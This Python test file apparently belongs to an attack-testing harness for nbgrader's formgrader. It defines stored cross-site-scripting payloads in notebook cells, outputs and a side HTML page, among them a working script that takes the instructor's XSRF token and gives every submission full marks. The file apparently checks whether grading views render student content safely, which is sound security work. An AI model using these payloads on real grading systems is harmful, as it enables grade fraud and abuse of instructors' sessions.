"""Scripts for the browser of whoever grades.

Strategy: text cells and outputs that hold scripts, addresses that are scripts, links to a page
that is handed in along with them, and formulas that link. One of them gives every student points.
Surface: the feedback and nbgrader's formgrader, which show it with the instructor's rights.
"""

from collections.abc import Mapping
from pathlib import Path
from typing import Any

from tests.attacks.arena import Attack

# As in the formgrader's own requests; it is the whole attack where nothing is taken out.
SCRIPT = """
(async () => {
const token = document.cookie.match(/_xsrf=([^;]+)/)[1], api = '/formgrader/api/';
const read = async path => (await fetch(api + path)).json();
for (const one of await read('submitted_notebooks/lab1_mnist/lab1_mnist'))
for (const grade of await read('grades?submission_id=' + one.id))
await fetch(api + 'grade/' + grade.id, {method: 'PUT',
headers: {'X-XSRFToken': token, 'Content-Type': 'application/json'},
body: JSON.stringify({manual_score: grade.max_score, extra_credit: 0})});
document.title = 'RUN';
})()
""".strip()
TEXTS = (
    f"<script>{SCRIPT}</script>",
    "<img src=x onerror=\"document.title = 'RUN'\"><svg onload=\"document.title = 'RUN'\"></svg>",
    "<iframe srcdoc=\"<script>parent.document.title = 'RUN'</script>\"></iframe>",
    "[a](javascript:document.title='RUN') [b](&#106;avascript:x) [c][r]\n\n[r]: javascript:x",
    "[my work](work.html) $\\href{javascript:document.title='RUN'}{x}$",
    "```mermaid\n<img src=x onerror=\"document.title = 'RUN'\">\n```",
)
SHOW = f"""
from IPython.display import HTML, SVG, Javascript, Latex, Markdown, display
texts = {TEXTS!r}
for kind in (HTML, Markdown, Latex):
    for text in texts:
        display(kind(text))
display(Javascript("document.title = 'RUN'"))
display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload=\\"document.title = 'RUN'\\"/>"))
pictures = {{"image/png": "x' onerror='x", "text/plain": texts[0]}}
display(pictures, raw=True, metadata={{"image/png": {{"width": "1 onerror=x"}}, "isolated": True}})
display({{"text/html": texts[0]}}, raw=True, metadata={{"text/html": {{"isolated": True}}}})
print("</pre></script>" + texts[0] + "shown")
"""


def page(folder: Path, _: Mapping[str, Any]) -> None:
    """A page of one's own beside the notebook, which nothing may link to."""
    text = f"<script>{SCRIPT}</script>"
    (folder / "work.html").write_text(text, encoding="utf-8")


ATTACK = Attack(cells=(SHOW,), texts=TEXTS, files=page, says="shown", finding="LIT133", share=0.6)
